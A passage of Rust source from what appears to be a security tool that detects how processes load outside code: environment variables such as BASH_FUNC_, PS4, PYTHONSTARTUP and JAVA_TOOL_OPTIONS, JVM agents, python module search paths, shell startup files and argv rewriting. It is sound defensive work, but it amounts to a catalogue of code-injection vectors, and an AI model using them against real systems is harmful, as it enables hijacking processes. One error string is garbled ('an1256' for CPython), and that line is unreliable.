            "OPENSSL_CONF" => out.push(load(key, LoadTarget::Config(value.to_owned()))),
            "OPENSSL_ENGINES" | "OPENSSL_MODULES" => {
                out.push(load(key, LoadTarget::Dir(value.to_owned())))
            }
            "GCONV_PATH" => dirs(key, value, &mut out),
            // ssh, ssh-add, ssh-keygen and ssh-agent load it for FIDO keys.
            "SSH_SK_PROVIDER" if !value.eq_ignore_ascii_case("internal") => {
                out.push(load(key, LoadTarget::File(value.to_owned())))
            }
            _ => {}
        }
        match (interpreter, key) {
            ("perl", "PERL5LIB" | "PERLLIB") => dirs(key, value, &mut out),
            ("perl", "PERL5OPT") => out.extend(option_variable_loads(key, value, true, perl)),
            ("ruby", "RUBYLIB") => dirs(key, value, &mut out),
            ("ruby", "RUBYOPT") => out.extend(option_variable_loads(key, value, true, ruby)),
            ("node", "NODE_PATH") => dirs(key, value, &mut out),
            ("node", "NODE_OPTIONS") => out.extend(option_variable_loads(key, value, false, node)),
            ("python", "PYTHONPATH" | "PYTHONHOME") if !python.ignore_environment => {
                dirs(key, value, &mut out)
            }
            ("python", "PYTHONSTARTUP") if !python.ignore_environment => {
                out.push(load(key, LoadTarget::File(value.to_owned())))
            }
            ("bash" | "sh", "BASH_ENV") => out.push(load(key, LoadTarget::File(value.to_owned()))),
            (_, "ENV") if shell => out.push(load(key, LoadTarget::File(value.to_owned()))),
            // zsh reads its startup files from there instead of the home.
            ("zsh", "ZDOTDIR") => out.push(load(key, LoadTarget::Dir(value.to_owned()))),
            // bash imports `BASH_FUNC_<name>%%=() {…}` as functions, which take the
            // place of the commands and builtins a script runs.
            ("bash" | "sh", _) if key.starts_with("BASH_FUNC_") => out.push(load(
                key,
                LoadTarget::Code("an exported function replaces a command the script runs".into()),
            )),
            // PS4 is expanded for every traced command (`set -x`, SHELLOPTS=xtrace):
            // command substitutions in it run. The default `+ ` expands nothing.
            (_, "PS4") if shell && value.contains(['$', '`']) => out.push(load(
                key,
                LoadTarget::Code("a trace prompt that expands, and so can run commands".into()),
            )),
            // The standard library's directory is `<prefix>/<PYTHONPLATLIBDIR>/python3.X`:
            // `../home/u/x` moves the whole standard library into the user's tree.
            ("python", "PYTHONPLATLIBDIR") if !python.ignore_environment => {
                out.push(load(key, LoadTarget::Dir(join_normalized("/usr", value))))
            }
            ("python", "PYTHONPYCACHEPREFIX") if !python.ignore_environment => {
                out.push(load(key, LoadTarget::Dir(value.to_owned())))
            }
            // Tcl sources $TCL_LIBRARY/init.tcl at startup and `package require`
            // searches TCLLIBPATH (a Tcl list: whitespace-separated).
            ("tclsh", "TCL_LIBRARY") => out.push(load(key, LoadTarget::Dir(value.to_owned()))),
            ("tclsh", "TCLLIBPATH") => dir_loads(key, value.split_ascii_whitespace(), &mut out),
            _ => {}
        }
    }
    out
}

/// Whether python reads more code from stdin after its program: `-i`, or
/// `PYTHONINSPECT` set (unless `-E`/`-I`).
pub fn python_inspects(env: &[String], python: &PythonFlags) -> bool {
    python.inspect
        || (!python.ignore_environment
            && env.iter().any(|e| {
                e.strip_prefix("PYTHONINSPECT=")
                    .is_some_and(|v| !v.is_empty())
            }))
}

/// Directories only packages write: a path (file or directory) under them, written
/// without `.`/`..` components, is in a package-owned location. `/usr/local` and
/// `/opt` are root's but not packages'.
const PACKAGE_LOCATIONS: &[&str] = &[
    "/usr/lib",
    "/usr/lib64",
    "/usr/lib32",
    "/usr/libexec",
    "/usr/share",
    "/usr/bin",
    "/usr/sbin",
    "/lib",
    "/lib64",
    "/lib32",
    "/bin",
    "/sbin",
    "/System/Library",
];

/// See `PACKAGE_LOCATIONS`.
pub fn in_package_location(path: &str) -> bool {
    let Some(rest) = path.strip_prefix('/') else {
        return false;
    };
    if rest.split('/').enumerate().any(|(i, part)| {
        part == "." || part == ".." || (part.is_empty() && i + 1 < rest.split('/').count())
    }) {
        return false;
    }
    let path = path.trim_end_matches('/');
    PACKAGE_LOCATIONS.iter().any(|root| {
        path == *root
            || path
                .strip_prefix(root)
                .is_some_and(|tail| tail.starts_with('/'))
    })
}

/// Whether `exe_path` is one of a JDK's tools besides `java` (judged by its
/// options) and `jshell`: any program in the `bin` directory of a JDK under a
/// `jvm` tree (new releases add tools: `jwebserver`, `jnativescan`; older ones
/// had `jjs`, which runs JavaScript files). Each is a JVM, which reads the VM
/// option variables (an agent from `JAVA_TOOL_OPTIONS` runs in `jar` as in
/// `java`), and several load classes their options name (javac's annotation
/// processors, keytool's providers, jrunscript's engines).
fn is_jdk_tool(exe_path: &str) -> bool {
    let Some((dir, base)) = exe_path.rsplit_once('/') else {
        return false;
    };
    dir.ends_with("/bin") && dir.contains("/jvm/") && base != "java" && base != "jshell"
}

/// Why a program runs code other than its own file inside its process (a program
/// loader, an emulator, a debugger with an embedded interpreter), or `None`. Such a
/// process is never trusted for its executable's signature alone.
pub fn in_process_runner(exe_path: &str) -> Option<&'static str> {
    let base = basename(exe_path);
    if base == "ld.so"
        || base.starts_with("ld64.so")
        || (base.starts_with("ld-") && base.contains(".so"))
    {
        return Some("the dynamic loader runs the program named in its arguments in this process");
    }
    if exe_path.contains("/valgrind/") && base.ends_with("-linux") {
        return Some("a valgrind tool runs the program named in its arguments in this process");
    }
    if base.starts_with("qemu-") {
        return Some("qemu runs guest code in this process");
    }
    if base == "jshell" {
        return Some("jshell runs the Java code in its arguments and its input");
    }
    if is_jdk_tool(exe_path) {
        return Some(
            "a JDK tool runs in a JVM, which loads the agents and classes JAVA_TOOL_OPTIONS, \
             _JAVA_OPTIONS, its -J options and its own options name",
        );
    }
    if base == "gdb" || base.starts_with("gdb-") {
        return Some("gdb runs python and guile code from its options and the user's .gdbinit");
    }
    None
}

/// Code a program that is no interpreter loads into itself because its argv (or
/// its own variables) say so: ssh's PKCS#11 and security-key provider libraries;
/// what a JVM runs (the jar, the source file, the class path, agents).
pub fn program_loads(exe_path: &str, argv: &[String], env: &[String]) -> Vec<CodeLoad> {
    match basename(exe_path) {
        "ssh" => super::socks::ssh::parse_ssh_argv(argv)
            .providers
            .into_iter()
            .map(|(via, library)| load(via, LoadTarget::File(library)))
            .collect(),
        "java" => java_loads(argv.get(1..).unwrap_or(&[]), env),
        _ => Vec::new(),
    }
}

/// How the java launcher finds the program it runs.
#[derive(Default, PartialEq)]
enum JavaMain {
    /// No program (`-version`, `--help`, options only).
    #[default]
    None,
    /// A main class searched on the class path.
    Class,
    /// `-jar file`: the jar is the class path.
    Jar,
    /// `java File.java`: source-file mode, compiled in memory.
    Source,
    /// `-m module[/class]` from the module path.
    Module,
}

/// java launcher options that take the next word as their value.
const JAVA_VALUE_OPTIONS: &[&str] = &[
    "-cp",
    "-classpath",
    "--class-path",
    "-p",
    "--module-path",
    "--upgrade-module-path",
    "--add-modules",
    "--limit-modules",
    "--add-reads",
    "--add-exports",
    "--add-opens",
    "--patch-module",
    "--source",
    "--enable-native-access",
    "-d",
    "--describe-module",
];

/// Class or module path entries: a jar/zip is a file, `dir/*` is every jar in
/// `dir`, anything else a directory of classes (empty: the cwd).
fn java_path(via: &str, value: &str, out: &mut Vec<CodeLoad>) {
    for entry in value.split(':') {
        let lower = entry.to_ascii_lowercase();
        let target = if let Some(dir) = entry.strip_suffix('*') {
            LoadTarget::Dir(dir.trim_end_matches('/').to_owned())
        } else if lower.ends_with(".jar") || lower.ends_with(".zip") || lower.ends_with(".jmod") {
            LoadTarget::File(entry.to_owned())
        } else {
            LoadTarget::Dir(entry.to_owned())
        };
        out.push(load(via, target));
    }
}

/// java's options (argv, or an options variable when `operands` is false): the
/// loads they name, the class path given, and how the main program is found.
fn java_options(
    args: &[String],
    prefix: &str,
    operands: bool,
    out: &mut Vec<CodeLoad>,
) -> (Option<String>, JavaMain) {
    let via = |what: &str| format!("{prefix}{what}");
    let mut class_path = None;
    let mut source_given = false;
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        let (name, inline) = match arg.split_once('=') {
            Some((n, v)) if n.starts_with("--") => (n, Some(v.to_owned())),
            _ => (arg, None),
        };
        if let Some(file) = arg.strip_prefix('@') {
            // An argument file: more options, from a file.
            out.push(load(&via("@argfile"), LoadTarget::Config(file.to_owned())));
        } else if let Some(spec) = arg.strip_prefix("-javaagent:") {
            let jar = spec.split('=').next().unwrap_or(spec);
            out.push(load(&via("-javaagent"), LoadTarget::File(jar.to_owned())));
        } else if let Some(spec) = arg.strip_prefix("-agentpath:") {
            let lib = spec.split('=').next().unwrap_or(spec);
            out.push(load(&via("-agentpath"), LoadTarget::File(lib.to_owned())));
        } else if let Some(spec) = arg.strip_prefix("-agentlib:") {
            // The VM loads `lib<name>.so`: a name with a `/` is a path from the
            // cwd (`./x` is `lib./x.so`); a bare name is searched in the JDK's
            // directory and ld.so's (LD_LIBRARY_PATH is judged on its own).
            let name = spec.split('=').next().unwrap_or(spec);
            if name.contains('/') {
                out.push(load(
                    &via("-agentlib"),
                    LoadTarget::File(format!("lib{name}.so")),
                ));
            }
        } else if let Some((key, value)) = arg
            .strip_prefix("-D")
            .and_then(|d| d.split_once('='))
            .filter(|(key, _)| matches!(*key, "java.library.path" | "sun.boot.library.path"))
        {
            // Where System.loadLibrary finds JNI libraries (the JDK's own too).
            dirs(&via(&format!("-D{key}")), value, out);
        } else if let Some((option, file)) = ["-XX:VMOptionsFile=", "-XX:Flags="]
            .iter()
            .find_map(|o| arg.strip_prefix(o).map(|f| (o.trim_end_matches('='), f)))
        {
            // More VM options, from a file.
            out.push(load(&via(option), LoadTarget::Config(file.to_owned())));
        } else if let Some(files) = arg.strip_prefix("-XX:SharedArchiveFile=") {
            // A class-data archive: classes the VM maps instead of loading them.
            for file in files.split(':').filter(|f| !f.is_empty()) {
                out.push(load(
                    &via("-XX:SharedArchiveFile"),
                    LoadTarget::File(file.to_owned()),
                ));
            }
        } else if let Some(path) = arg.strip_prefix("-Xbootclasspath/a:") {
            java_path(&via("-Xbootclasspath/a"), path, out);
        } else if operands && matches!(arg, "-jar") {
            if let Some(jar) = args.get(i + 1) {
                out.push(load(&via("-jar"), LoadTarget::File(jar.clone())));
            }
            return (class_path, JavaMain::Jar);
        } else if operands && matches!(name, "-m" | "--module") {
            return (class_path, JavaMain::Module);
        } else if JAVA_VALUE_OPTIONS.contains(&name) {
            let value = inline.or_else(|| {
                i += 1;
                args.get(i).cloned()
            });
            if let Some(value) = value {
                match name {
                    "-cp" | "-classpath" | "--class-path" => class_path = Some(value),
                    "--source" => source_given = true,
                    "-p" | "--module-path" | "--upgrade-module-path" => {
                        java_path(&via(name), &value, out)
                    }
                    // `module=path`: the path's classes replace the module's own.
                    "--patch-module" => {
                        if let Some((_, path)) = value.split_once('=') {
                            java_path(&via(name), path, out)
                        }
                    }
                    _ => {}
                }
            }
        } else if operands && !arg.starts_with('-') {
            // `--source N` makes any file a source file (`#!` java scripts).
            if arg.ends_with(".java") || source_given {
                out.push(load(
                    &via("(source file)"),
                    LoadTarget::File(arg.to_owned()),
                ));
                return (class_path, JavaMain::Source);
            }
            return (class_path, JavaMain::Class);
        }
        i += 1;
    }
    (class_path, JavaMain::None)
}

/// What the JVM of `java args` loads besides the JDK: the launcher's options
/// (`JDK_JAVA_OPTIONS`) and the VM's (`JAVA_TOOL_OPTIONS`, `_JAVA_OPTIONS`) first,
/// then argv; the class path is `-cp`, else `CLASSPATH`, else the cwd.
fn java_loads(args: &[String], env: &[String]) -> Vec<CodeLoad> {
    let mut out = Vec::new();
    let mut class_path = None;
    for key in ["JDK_JAVA_OPTIONS", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS"] {
        for value in env
            .iter()
            .filter_map(|e| e.split_once('=').filter(|(k, _)| *k == key).map(|(_, v)| v))
        {
            let words = split_words(value);
            let (cp, _) = java_options(&words, &format!("{key} (java "), false, &mut out);
            class_path = cp.or(class_path);
        }
    }
    for l in out.iter_mut() {
        l.via.push(')');
    }
    let (cp, main) = java_options(args, "java ", true, &mut out);
    let class_path = cp.or(class_path);
    match (main, class_path) {
        (JavaMain::Jar | JavaMain::None | JavaMain::Module, _) => {}
        (_, Some(cp)) => java_path("java class path", &cp, &mut out),
        (main, None) => match env_first(env, "CLASSPATH") {
            Some(cp) => java_path("java class path (CLASSPATH)", cp, &mut out),
            None if main == JavaMain::Class => out.push(load(
                "java class path (the cwd)",
                LoadTarget::Dir(String::new()),
            )),
            None => {}
        },
    }
    out
}

/// Standard-library modules that run code named in their arguments (a script, a
/// statement, a pickle, test modules) in the python process: `python3 -m cProfile
/// ~/x.py` runs the user's file as the package's `cProfile.py`.
const PYTHON_CODE_RUNNERS: &[&str] = &[
    "timeit", "cProfile", "profile", "pdb", "trace", "runpy", "doctest", "pickle", "code", "pydoc",
];

/// The standard-library runner a python script file is (it runs other code in
/// its process), or `None`. Such a subject is never trusted on its own file alone
/// (`code`, the console, only when no person is at a terminal).
pub fn python_code_runner(script_path: &str) -> Option<&'static str> {
    if !script_path.contains("/lib/python") {
        return None;
    }
    let base = basename(script_path);
    let stem = base.strip_suffix(".py").unwrap_or(base);
    let package_main = |package: &str| script_path.ends_with(&format!("/{package}/__main__.py"));
    PYTHON_CODE_RUNNERS
        .iter()
        .find(|r| **r == stem || package_main(r))
        .copied()
        .or_else(|| package_main("unittest").then_some("unittest"))
}

/// Where CPython looks for `pyvenv.cfg` given its argv[0]: the program path
/// (argv[0] itself when it has a `/`, resolved against `cwd`; otherwise each
/// `PATH` entry joined with it, first existing one wins), and then its directory
/// and that directory's parent. `Err` when argv[0] is relative and the cwd unknown.
pub fn python_program_candidates(
    argv0: &str,
    cwd: &str,
    env: &[String],
) -> Result<Vec<String>, JudgeError> {
    if argv0.is_empty() {
        return Ok(Vec::new());
    }
    if argv0.contains('/') {
        if !argv0.starts_with('/') && !cwd.starts_with('/') {
            return Err(JudgeError::CwdUnknown);
        }
        return Ok(vec![join_normalized(cwd, argv0)]);
    }
    // Bounded: a PATH of thousands of entries costs a probe each.
    const MAX_PATH_ENTRIES: usize = 64;
    let path = env_first(env, "PATH").unwrap_or("");
    let mut out = Vec::new();
    for dir in path
        .split(':')
        .filter(|d| !d.is_empty())
        .take(MAX_PATH_ENTRIES)
    {
        if !dir.starts_with('/') && !cwd.starts_with('/') {
            return Err(JudgeError::CwdUnknown);
        }
        out.push(join_normalized(cwd, &format!("{dir}/{argv0}")));
    }
    Ok(out)
}

/// The two directories CPython checks for `pyvenv.cfg` for program `program`.
pub fn pyvenv_dirs(program: &str) -> [String; 2] {
    let dir = program.rsplit_once('/').map_or("/", |(d, _)| d);
    let dir = if dir.is_empty() { "/" } else { dir };
    let parent = dir.rsplit_once('/').map_or("/", |(d, _)| d);
    let parent = if parent.is_empty() { "/" } else { parent };
    [dir.to_owned(), parent.to_owned()]
}

/// One directory of python's `sys.path` and why it is there.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SearchDir {
    pub dir: String,
    /// `the cwd`, `PYTHONPATH`, `the standard library`, `PYTHONHOME`,
    /// `user site-packages`, `site-packages`.
    pub origin: &'static str,
}

/// The first value of `key` in `env`, as `getenv` returns it.
fn env_first<'a>(env: &'a [String], key: &str) -> Option<&'a str> {
    env.iter()
        .find_map(|e| e.split_once('=').filter(|(k, _)| *k == key).map(|(_, v)| v))
}

/// `3.11` from `/usr/bin/python3.11` (what `/proc/<pid>/exe` names on Debian).
pub fn python_version(exe_path: &str) -> Option<&str> {
    basename(exe_path).strip_prefix("python").filter(|v| {
        let mut parts = v.split('.');
        let major = parts.next().unwrap_or("");
        let minor = parts.next().unwrap_or("");
        !major.is_empty()
            && !minor.is_empty()
            && parts.next().is_none()
            && major
                .bytes()
                .chain(minor.bytes())
                .all(|b| b.is_ascii_digit())
    })
}

/// `sys.path` for `python -m` as CPython builds it on Debian: the cwd (unless
/// `-P`/`-I`/`PYTHONSAFEPATH`), `PYTHONPATH`, the standard library under the prefix
/// (`PYTHONHOME` when set), the user site (unless `-s`/`-I`/`PYTHONNOUSERSITE`;
/// `PYTHONUSERBASE` or `$HOME/.local`), then the site directories. `.pth` files are
/// not followed. A repeated directory is kept once, where it first appears (the
/// finder never gets past it). `Err` when it cannot be built (version or cwd
/// unknown) or holds more than `SEARCH_PATH_CAP` distinct directories.
pub fn python_module_path(
    exe_path: &str,
    cwd: &str,
    env: &[String],
    passwd_home: Option<&str>,
    flags: &PythonFlags,
) -> Result<Vec<SearchDir>, JudgeError> {
    let version = python_version(exe_path).ok_or_else(|| JudgeError::PythonVersionUnknown {
        executable: exe_path.to_owned(),
    })?;
    if !cwd.starts_with('/') {
        return Err(JudgeError::CwdUnknown);
    }
    let use_env = !flags.ignore_environment;
    let var = |key: &str| {
        use_env
            .then(|| env_first(env, key))
            .flatten()
            .filter(|v| !v.is_empty())
    };
    let mut path = Vec::new();
    let mut push = |dir: String, origin: &'static str| path.push(SearchDir { dir, origin });
    if !flags.safe_path && var("PYTHONSAFEPATH").is_none() {
        push(cwd.to_owned(), "the cwd");
    }
    if let Some(value) = var("PYTHONPATH") {
        for entry in value.split(':') {
            push(join_normalized(cwd, entry), "PYTHONPATH");
        }
    }
    let (prefix, stdlib_origin) = match var("PYTHONHOME") {
        Some(home) => (
            home.split(':').next().unwrap_or(home).to_owned(),
            "PYTHONHOME",
        ),
        None => {
            let bin = exe_path.rsplit_once('/').map_or("", |(d, _)| d);
            let prefix = bin.rsplit_once('/').map_or("", |(d, _)| d);
            (prefix.to_owned(), "the standard library")
        }
    };
    let nodot = version.replace('.', "");
    push(format!("{prefix}/lib/python{nodot}.zip"), stdlib_origin);
    push(format!("{prefix}/lib/python{version}"), stdlib_origin);
    push(
        format!("{prefix}/lib/python{version}/lib-dynload"),
        stdlib_origin,
    );
    if !flags.no_user_site && var("PYTHONNOUSERSITE").is_none() {
        let base = match var("PYTHONUSERBASE") {
            Some(base) => base.to_owned(),
            None => {
                let home = env_first(env, "HOME")
                    .filter(|h| !h.is_empty())
                    .or(passwd_home)
                    .ok_or(JudgeError::HomeUnknown)?;
                format!("{home}/.local")
            }
        };
        push(
            join_normalized(cwd, &format!("{base}/lib/python{version}/site-packages")),
            "user site-packages",
        );
    }
    push(
        format!("/usr/local/lib/python{version}/dist-packages"),
        "site-packages",
    );
    push("/usr/lib/python3/dist-packages".into(), "site-packages");
    push(
        format!("/usr/lib/python{version}/dist-packages"),
        "site-packages",
    );
    push(
        format!("{prefix}/lib/python{version}/site-packages"),
        "site-packages",
    );
    let mut seen = std::collections::HashSet::new();
    path.retain(|entry| seen.insert(entry.dir.clone()));
    if path.len() > SEARCH_PATH_CAP {
        return Err(JudgeError::SearchPathTooLong {
            entries: path.len(),
            cap: SEARCH_PATH_CAP,
        });
    }
    Ok(path)
}

/// The file `python -m module` runs, searched along `path` as CPython's path finder
/// would (package `__init__.py`, extension modules, `.py`, `.pyc`; namespace
/// packages across directories), with `probe` telling what each path is. `Err` says
/// why the answer cannot be trusted: not found, a probe that failed, a zip archive
/// on the path, or a namespace portion outside package-owned locations.
pub fn resolve_python_module(
    path: &[SearchDir],
    version: &str,
    module: &str,
    probe: &dyn Fn(&str) -> PathKind,
) -> Result<(String, SearchDir), JudgeError> {
    let parts: Vec<&str> = module.split('.').collect();
    let valid = |p: &&str| !p.is_empty() && p.chars().all(|c| c.is_alphanumeric() || c == '_');
    if !parts.iter().all(valid) {
        return Err(JudgeError::NotAModuleName(module.to_owned()));
    }
    let top = parts[0];
    let kind = |p: &str| -> Result<PathKind, JudgeError> {
        match probe(p) {
            PathKind::Unknown => Err(JudgeError::PathUnknown(p.to_owned())),
            other => Ok(other),
        }
    };
    // The table call's deadline: each entry costs up to eight probes.
    let deadline = crate::deadline::Deadline::current();
    let mut namespace: Vec<&SearchDir> = Vec::new();
    for entry in path {
        if deadline.expired() {
            return Err(JudgeError::DeadlinePassed);
        }
        let dir = entry.dir.as_str();
        match kind(dir)? {
            PathKind::Missing => continue,
            PathKind::Dir => {}
            _ if dir.ends_with(".zip") => {
                return Err(JudgeError::ModuleUnresolved(format!(
                    "{dir} ({}) is a zip archive: not looked into",
                    entry.origin
                )))
            }
            _ => continue,
        }
        let base = format!("{dir}/{top}");
        let package = kind(&base)? == PathKind::Dir;
        if package && kind(&format!("{base}/__init__.py"))? == PathKind::File {
            return finish_module(&base, &parts[1..], entry, version, &kind);
        }
        for suffix in python_module_suffixes(version) {
            let candidate = format!("{base}{suffix}");
            if kind(&candidate)? != PathKind::Missing {
                if parts.len() > 1 {
                    return Err(JudgeError::ModuleUnresolved(format!(
                        "{candidate} ({}) is a module, not the package {module} needs",
                        entry.origin
                    )));
                }
                return Ok((candidate, entry.clone()));
            }
        }
        if package {
            namespace.push(entry);
        }
    }
    if let Some(outside) = namespace.iter().find(|e| !in_package_location(&e.dir)) {
        return Err(JudgeError::ModuleUnresolved(format!(
            "namespace package {top} has a portion in {}/{top} ({})",
            outside.dir, outside.origin
        )));
    }
    for entry in namespace {
        if deadline.expired() {
            return Err(JudgeError::DeadlinePassed);
        }
        let base = format!("{}/{top}", entry.dir);
        if let Ok(found) = finish_module(&base, &parts[1..], entry, version, &kind) {
            return Ok(found);
        }
    }
    Err(JudgeError::ModuleUnresolved(format!(
        "module {module} is not on sys.path as an1256 builds it"
    )))
}

/// Extension and source suffixes CPython tries for a module, in its order.
fn python_module_suffixes(version: &str) -> Vec<String> {
    vec![
        format!(
            ".cpython-{}-{}-linux-gnu.so",
            version.replace('.', ""),
            std::env::consts::ARCH
        ),
        ".abi3.so".into(),
        ".so".into(),
        ".py".into(),
        ".pyc".into(),
    ]
}

/// Inside package directory `base`, the file that runs for the remaining `rest`
/// of the dotted name: `a/b.py`, or a package's `__main__.py`.
fn finish_module(
    base: &str,
    rest: &[&str],
    entry: &SearchDir,
    version: &str,
    kind: &dyn Fn(&str) -> Result<PathKind, JudgeError>,
) -> Result<(String, SearchDir), JudgeError> {
    let mut current = base.to_owned();
    for (i, part) in rest.iter().enumerate() {
        let next = format!("{current}/{part}");
        let last = i + 1 == rest.len();
        if kind(&next)? == PathKind::Dir {
            current = next;
            continue;
        }
        if last {
            for suffix in python_module_suffixes(version) {
                let candidate = format!("{next}{suffix}");
                if kind(&candidate)? != PathKind::Missing {
                    return Ok((candidate, entry.clone()));
                }
            }
        }
        return Err(JudgeError::ModuleUnresolved(format!(
            "{next} not found ({})",
            entry.origin
        )));
    }
    let main = format!("{current}/__main__.py");
    match kind(&main)? {
        PathKind::Missing => Err(JudgeError::ModuleUnresolved(format!(
            "{current} is a package with no __main__.py"
        ))),
        _ => Ok((main, entry.clone())),
    }
}

/// File name endings of scripts each interpreter family runs.
fn script_extensions(interpreter: &str) -> &'static [&'static str] {
    match interpreter {
        "python" => &[".py"],
        "perl" => &[".pl", ".pm"],
        "ruby" => &[".rb"],
        "node" => &[".js", ".mjs", ".cjs"],
        "php" => &[".php"],
        "sh" | "bash" | "dash" | "zsh" | "ksh" => &[".sh", ".bash"],
        _ => &[],
    }
}

/// Cross-checks argv's script operand against what the process holds open, where
/// the interpreter keeps its script open (bash on fd 255, dash on the lowest fd >=
/// 10) or holds another script file. argv can be rewritten in place (`$0`,
/// `setproctitle`, `/proc/self/mem`): a disagreement means argv does not name the
/// code that runs. `script_key` is the (dev, ino) argv's script resolves to.
/// `Some(reason)` on a disagreement.
pub fn argv_disagreement(
    interpreter: &str,
    exe_path: &str,
    script_path: &str,
    script_key: (u64, u64),
    open: &[OpenFile],
) -> Option<String> {
    let is_script = |f: &OpenFile| (f.dev, f.ino) == script_key;
    match basename(exe_path) {
        "bash" => match open.iter().find(|f| f.fd == 255) {
            None => {
                return Some(format!(
                    "bash holds no script on fd 255, though argv names {script_path}"
                ))
            }
            Some(f) if !is_script(f) => {
                return Some(format!(
                    "bash runs {} (fd 255), not argv's {script_path}",
                    f.path
                ))
            }
            Some(_) => {}
        },
        "dash" => match open.iter().filter(|f| f.fd >= 10).min_by_key(|f| f.fd) {
            None => {
                return Some(format!(
                    "dash holds no script on fd >= 10, though argv names {script_path}"
                ))
            }
            Some(_) if open.iter().any(|f| f.fd >= 10 && is_script(f)) => {}
            Some(f) => {
                return Some(format!(
                    "dash runs {} (fd {}), not argv's {script_path}",
                    f.path, f.fd
                ))
            }
        },
        _ => {}
    }
    let extensions = script_extensions(interpreter);
    open.iter()
        .find(|f| {
            !is_script(f)
                && extensions.iter().any(|ext| f.path.ends_with(ext))
                && !in_package_location(&f.path)
        })
        .map(|f| {
            format!(
                "holds {} open (fd {}): a script other than argv's {script_path}",
                f.path, f.fd
            )
        })
}

fn php_takes_value(c: char) -> bool {
    matches!(
        c,
        'r' | 'f' | 'd' | 'c' | 'z' | 'B' | 'R' | 'F' | 'E' | 't' | 'S'
    )
}

fn php_apply(
    c: char,
    value: Option<String>,
    code: &mut Option<String>,
    script: &mut Option<String>,
) {
    match c {
        'r' | 'R' => *code = Some(value.unwrap_or_default()),
        'f' | 'F' => *script = value,
        _ => {}
    }
}

/// tclsh / wish: `tclsh ?-encoding name? ?fileName arg …?`; a first argument starting
/// with `-` is not a script.
fn tcl(args: &[String]) -> Source {
    let start = if args.first().map(String::as_str) == Some("-encoding") {
        2
    } else {
        0
    };
    match args.get(start) {
        Some(path) if !path.starts_with('-') => file(path),
        _ => Source::Interactive,
    }
}

/// POSIX sh, bash, dash, zsh, ksh: `sh [-abCefhimnuvx] [-o opt] [-c cmd [name [args]]
/// | -s [args] | file [args]]`; `-c` is a flag and the command is the first operand.
fn shell(interpreter: &str, argv0: &str, args: &[String], extras: &mut Extras) -> Source {
    let mut command = false;
    let mut stdin = false;
    // A `-` first in argv[0] (`exec -a -bash`, `su -`, sshd) or `-l`/`--login`.
    let mut login = argv0.starts_with('-');
    let mut profile = true;
    let mut zsh_rcs = true;
    // `-i` makes an interactive shell even with a script: it reads its rc file
    // first (bash `~/.bashrc` unless `--norc` or `--rcfile`, zsh `~/.zshrc`).
    let mut interactive = false;
    let mut bashrc = true;
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "--" || arg == "-" {
            i += 1;
            break;
        }
        if let Some(long) = arg.strip_prefix("--") {
            match long {
                "rcfile" | "init-file" => {
                    bashrc = false;
                    i += 1;
                    if let Some(rc) = args.get(i) {
                        extras.loads.push(load(
                            &format!("{interpreter} --{long}"),
                            LoadTarget::File(rc.clone()),
                        ));
                    }
                }
                "emulate" => i += 1,
                "help" | "version" => return Source::Interactive,
                "login" => login = true,
                "noprofile" => profile = false,
                "norc" => bashrc = false,
                "no-rcs" => zsh_rcs = false,
                _ => {}
            }
            i += 1;
            continue;
        }
        let (minus, cluster) = match (arg.strip_prefix('-'), arg.strip_prefix('+')) {
            (Some(c), _) => (true, c),
            (None, Some(c)) if !c.is_empty() => (false, c),
            _ => break,
        };
        let mut values = 0;
        let mut ends_options = false;
        for c in cluster.chars() {
            match c {
                'c' if minus => command = true,
                's' if minus => stdin = true,
                'l' if minus => login = true,
                'i' if minus => interactive = true,
                'f' if minus && interpreter == "zsh" => zsh_rcs = false,
                'o' | 'O' => values += 1,
                'R' | 'T' if interpreter == "ksh" => values += 1,
                'b' if interpreter == "zsh" => ends_options = true,
                _ => {}
            }
        }
        i += 1 + values;
        if ends_options {
            break;
        }
    }
    // Startup files in the user's home run before the script, whatever it is
    // (`/etc/profile` and its kin are root's). bash reads the first of its three
    // that exists; each is judged.
    let mut startup: Vec<&str> = Vec::new();
    if interpreter == "zsh" && zsh_rcs {
        startup.push(".zshenv");
    }
    if login && profile {
        startup.extend(match interpreter {
            "bash" => &[".bash_profile", ".bash_login", ".profile"][..],
            "zsh" if zsh_rcs => &[".zprofile", ".zlogin"][..],
            "zsh" => &[][..],
            _ => &[".profile"][..],
        });
    }
    for name in startup {
        let via = if login && name != ".zshenv" {
            format!("{interpreter} login shell")
        } else {
            interpreter.to_owned()
        };
        extras
            .loads
            .push(load(&via, LoadTarget::HomeFile(name.to_owned())));
    }
    // A login shell reads its profile instead of bash's rc file; zsh reads both.
    // An interactive ksh reads `$ENV` (modelled with the variables), else its
    // default: ksh93 `~/.kshrc`, mksh `~/.mkshrc` (which ksh this is, is not
    // known here: both are judged).
    let rc_files: &[&str] = match interpreter {
        "bash" if interactive && bashrc && !login => &[".bashrc"],
        "zsh" if interactive && zsh_rcs => &[".zshrc"],
        "ksh" if interactive => &[".kshrc", ".mkshrc"],
        _ => &[],
    };
    for name in rc_files {
        extras.loads.push(load(
            &format!("{interpreter} interactive shell"),
            LoadTarget::HomeFile((*name).to_owned()),
        ));
    }
    let operand = args.get(i);
    if command {
        return Source::Inline(operand.cloned().unwrap_or_default());
    }
    if stdin {
        return Source::Stdin;
    }
    match operand {
        Some(path) => file(path),
        None => Source::Interactive,
    }
}

/// osascript: `osascript [-l lang] [-i] [-s flags] [-e statement | programfile] [args]`.
fn osascript(args: &[String]) -> Source {
    let mut lines: Vec<String> = Vec::new();
    let mut interactive = false;
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "--" {
            i += 1;
            break;
        }
        let cluster = match arg.strip_prefix('-') {
            Some(c) if !c.is_empty() => c,
            _ => break,
        };
        for (pos, c) in cluster.char_indices() {
            match c {
                'e' => {
                    lines.push(
                        option_value(after(cluster, pos, c), args, &mut i).unwrap_or_default(),
                    );
                    break;
                }
                'l' | 's' => {
                    let _ = option_value(after(cluster, pos, c), args, &mut i);
                    break;
                }
                'i' => interactive = true,
                _ => {}
            }
        }
        i += 1;
    }
    if !lines.is_empty() {
        return Source::Inline(lines.join("\n"));
    }
    match args.get(i).map(String::as_str) {
        Some("-") => Source::Stdin,
        Some(path) => file(path),
        None if interactive => Source::Interactive,
        None => Source::Stdin,
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum PwshParam {
    Command,
    CommandWithArgs,
    File,
    EncodedCommand,
